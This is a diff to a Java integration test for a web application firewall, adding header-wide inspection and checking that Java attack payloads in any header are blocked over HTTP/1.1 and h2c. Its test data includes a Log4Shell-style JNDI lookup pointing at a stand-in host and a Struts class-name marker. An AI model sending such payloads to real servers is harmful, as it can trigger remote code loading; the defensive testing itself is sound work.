@@ -19,6 +19,8 @@ import org.junit.jupiter.params.provider.CsvSource;
  * {@code type: attacks} in the real server over HTTP/1.1 and h2c: attacks in the query, path, cookie
  * and User-Agent are answered 403 by the gate, benign requests (look-alikes included) are forwarded,
  * an exclusion lets its argument through on its path, and {@code detect_only} forwards everything.
+ * With {@code all_headers} a Java payload in any header field (the second of a repeated one too)
+ * is denied over both protocols.
  */
 class AttacksPolicyIT {
     private static final String CHROME = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36";
@@ -45,6 +47,7 @@ class AttacksPolicyIT {
                     action: {respond: {status: 403}}
                   watch: {type: attacks, detect_only: true}
                   waf-metrics: {type: attacks}
+                  waf-all: {type: attacks, inspect: {all_headers: true}}
                 hosts:
                   - names: [shop.test]
                     policies: [waf]
@@ -54,6 +57,9 @@ class AttacksPolicyIT {
                     routes: [{path: /, forward: app}]
                   - names: [metrics.test]
                     policies: [waf-metrics]
+                    routes: [{path: /, forward: app}]
+                  - names: [all.test]
+                    policies: [waf-all]
                     routes: [{path: /, forward: app}]
                 """.formatted(origin.url()));
     }
@@ -141,6 +147,32 @@ class AttacksPolicyIT {
             assertThat(after.get(xss) - before.getOrDefault(xss, 0.0)).isEqualTo(1.0);
             assertThat(after.get(denied) - before.getOrDefault(denied, 0.0)).isEqualTo(1.0);
             assertThat(after.get(hits) - before.getOrDefault(hits, 0.0)).isEqualTo(1.0);
+        }
+    }
+
+    @ParameterizedTest(name = "{0} {1}: {2} -> {3}")
+    @CsvSource(delimiter = '|', quoteCharacter = 0, textBlock = """
+            all.test  | X-Api-Client | com.opensymphony.xwork2            | 403
+            all.test  | X-Trace      | ${jndi:ldap://evil.example/a}      | 403
+            all.test  | X-Api-Client | com.example.shop.android/5.2.1     | 200
+            shop.test | X-Api-Client | com.opensymphony.xwork2            | 200
+            """)
+    void allHeadersInspectsEveryHeaderOverBothProtocols(String host, String name, String value, int status) throws Exception {
+        try (RawHttp c = new RawHttp(server.port("mixed"))) {
+            RawHttp.Response r = c.exchange("GET /account HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: " + CHROME + "\r\n"
+                    + name + ": benign\r\nAccept: text/html\r\n" + name + ": " + value + "\r\n\r\n");
+
+            assertThat(r.status()).as("HTTP/1.1: " + r).isEqualTo(status);
+        }
+        Http2Headers headers = H2Client.headers("GET", host, "/account");
+        headers.add("user-agent", CHROME);
+        headers.add(name.toLowerCase(java.util.Locale.ROOT), "benign");
+        headers.add("accept", "text/html");
+        headers.add(name.toLowerCase(java.util.Locale.ROOT), value);
+        try (H2Client c = H2Client.connect(server.port("mixed"))) {
+            H2Client.Response r = c.send(headers, null, true).done.get(5, TimeUnit.SECONDS);
+
+            assertThat(r.status()).as("h2c: " + r).isEqualTo(status);
         }
     }
 }
